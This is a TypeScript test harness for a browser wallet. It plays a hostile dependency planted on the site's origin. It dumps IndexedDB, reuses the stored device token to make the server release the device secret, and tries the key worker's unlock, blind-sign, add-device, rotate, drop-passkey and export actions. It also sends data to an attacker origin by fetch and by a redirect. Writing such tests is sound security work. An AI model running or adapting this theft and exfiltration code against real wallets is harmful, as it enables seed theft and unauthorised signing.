// A module that a hostile dependency has planted in the frame and the windows. It has all that their own code has on the site's origin, brings its
// own cryptography, and tries to get at the seed, and to have things signed that a passkey protects.

import { openKeys } from '../documents/open-keys.js';
import type { SiteConfig } from '../documents/site-config.js';
import { signAsDevice } from '../frame/device-signature.js';
import type { StoredDevice } from '../frame/device-store.js';
import { FrameClient } from '../frame/frame-client.js';
import { KeyWorker, KeyWorkerError } from '../keys/key-worker.js';
import type { KeyAction, KeyRequests } from '../keys/messages.js';
import type { PolicyVault, Wrap } from '../keys/vault.js';
import { digestOf, randomSecret, toUtf8 } from '../protocol/encoding.js';
import { settled } from '../protocol/indexed-db.js';
import { exportPoint } from '../protocol/p256.js';
import { createAgreementKey, openMessage, type SealedMessage } from '../protocol/sealed-message.js';

/** Called by tests. */
export interface PlantedInInterface {
  /** Tries to get at the seed. @param origin of the attacker's server */
  steal(origin: string): Promise<StolenByInterface>;
  /** Leaves for the attacker's server with the data, and gives it to the app's page before. */
  leave(origin: string, data: string): void;
}

/** Returned by {@link PlantedInInterface.steal}. */
export interface StolenByInterface {
  /** All that is stored on the site's origin, without keys that cannot be exported. */
  readonly stored: readonly unknown[];
  /** Released by the server to the device, opened. */
  readonly released: { readonly server: Uint8Array; readonly vault: string; readonly wraps: string };
  /** Of each try. */
  readonly outcomes: Readonly<Record<string, string>>;
}

declare global {
  interface Window {
    plantedInInterface?: PlantedInInterface;
  }
}

const readAll = async (): Promise<{ readonly app: string; readonly values: readonly unknown[] }> => {
  const [{ name = '' } = {}] = (await indexedDB.databases()).filter((each) => each.name?.startsWith('latchkey-wallet '));
  const database = await settled(indexedDB.open(name));
  const stores = [...database.objectStoreNames];
  const values = await Promise.all(stores.map((each) => settled(database.transaction(each).objectStore(each).getAll())));
  database.close();
  return { app: name, values: values.flat() };
};

/** Continues the session of the device, and has the server release its secret. */
const release = async (config: SiteConfig, app: string, device: StoredDevice): Promise<StolenByInterface['released']> => {
  const [, origin = '', project = ''] = app.split(' ');
  const client = await FrameClient.create({ apiOrigin: config.apiOrigin });
  await client.register({ origin, project });
  const token = device.token ?? '';
  const nonce = await client.nonce();
  const resumed = await signAsDevice(client, device, { action: 'resume-session', nonce, parameters: [await digestOf(toUtf8(token))] });
  // The server's answers have these members.
  const session = (await client.call('POST', '/session/resume', { token, device: device.device, nonce, signature: resumed })) as {
    readonly token: string;
  };
  client.token = session.token;
  const agreement = await createAgreementKey();
  const agreementKey = await exportPoint(agreement.publicKey);
  const next = await client.nonce();
  const signature = await signAsDevice(client, device, { action: 'release-secret', nonce: next, parameters: [agreementKey] });
  const released = (await client.call('POST', '/devices/secret', { device: device.device, agreementKey, nonce: next, signature })) as {
    readonly vault: string;
    readonly deviceWraps: string;
    readonly secret: SealedMessage;
  };
  const context = ['device-secret', device.wallet, device.device, client.id, next];
  return { server: await openMessage(agreement, context, released.secret), vault: released.vault, wraps: released.deviceWraps };
};

const TRY_MS = 2_000;

/** Tries to have a document start a worker for this one. */
const startsKeys = async (url: string): Promise<string> => {
  const frame = document.createElement('iframe');
  frame.src = url;
  const { port1, port2 } = new MessageChannel();
  const answer = new Promise<string>((resolve) => {
    port1.addEventListener('message', () => resolve('started'));
    setTimeout(() => resolve('not started'), TRY_MS);
  });
  port1.start();
  frame.addEventListener('load', () => frame.contentWindow?.postMessage(null, '*', [port2]));
  document.body.append(frame);
  return answer.finally(() => frame.remove());
};

const nameOf = (error: unknown): string => {
  if (error instanceof KeyWorkerError) return error.code;
  return error instanceof Error || error instanceof DOMException ? error.name : 'error';
};

const steal = async (evilOrigin: string): Promise<StolenByInterface> => {
  const config: SiteConfig = await (await fetch('/config.json')).json();
  const { app, values } = await readAll();
  const device = values.find((value): value is StoredDevice => typeof value === 'object' && value !== null && 'token' in value);
  if (device === undefined) throw new Error('There is no device');
  const released = await release(config, app, device);
  const keys = new KeyWorker(openKeys(config.keysOrigin, 'keys'));
  const folder = `${config.keysOrigin}${new URL('.', document.baseURI).pathname}`;
  const { wallet } = device;
  const vault: PolicyVault = JSON.parse(released.vault);
  const wraps: readonly Wrap[] = JSON.parse(released.wraps);
  const own = { pair: 'server-recovery', device: '', secrets: { server: randomSecret(), recovery: randomSecret() } } as const;
  const agreementKey = await exportPoint((await createAgreementKey()).publicKey);
  const added = { device: 'device-of-the-attacker', frame: 'f'.repeat(43), agreementKey };
  const ask = async <Action extends KeyAction>(action: Action, members: KeyRequests[Action]): Promise<string> =>
    keys.request(action, members).then(() => 'done', nameOf);
  const [wrap] = wraps;
  if (wrap === undefined) throw new Error('There is no wrap');
  const opener = { wallet, vault, wrap, secrets: { server: released.server.slice() } };
  const payload = { kind: 'evm-digest', bytes: randomSecret() } as const;
  const tries: Readonly<Record<string, () => Promise<string>>> = {
    unlock: () => ask('unlock', { ...opener, seenEpoch: 0 }),
    'sign what it cannot read': () => ask('sign', { wallet, origin: device.user.provider, payloads: [payload] }),
    'wrap for secrets of its own': () => ask('wrap', { wallet, wraps: [own] }),
    'add a device of its own': () => ask('add-device', { wallet, added, server: randomSecret() }),
    'replace the data key': () => ask('rotate', { wallet, vault, wraps: [own] }),
    'drop the passkeys': () => ask('set-policy', { wallet, vault, policy: { passkeys: [], limits: [] } }),
    // The worker has a shape for it, and refuses in frames.
    export: () => ask('export', { ...opener, wrap: { ...wrap, pair: 'server-recovery', device: '' }, secrets: own.secrets }),
    'storage of the keys': async () => {
      const frame = [...document.querySelectorAll('iframe')].find(({ src }) => src.startsWith(config.keysOrigin));
      return String(Reflect.get(frame?.contentWindow ?? {}, 'indexedDB'));
    },
    'document that exports': () => startsKeys(`${folder}window-keys`),
    'document of frames': () => startsKeys(`${folder}keys`),
    'worker of its own': async () => {
      const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
      return new Promise((resolve) => {
        worker.addEventListener('message', () => resolve('started'));
        worker.addEventListener('error', () => resolve('error'));
      });
    },
    'network request': () => fetch(evilOrigin, { mode: 'no-cors' }).then(() => 'sent'),
  };
  const outcomes: Record<string, string> = {};
  for (const [name, run] of Object.entries(tries)) {
    try {
      outcomes[name] = await run();
    } catch (error) {
      outcomes[name] = nameOf(error);
    }
  }
  return { stored: JSON.parse(JSON.stringify(values)), released, outcomes };
};

window.plantedInInterface = {
  steal,
  leave: (origin, data) => {
    window.parent.postMessage({ type: '@w3m-frame/STOLEN', id: data }, '*');
    location.href = `${origin}/?${data}`;
  },
};
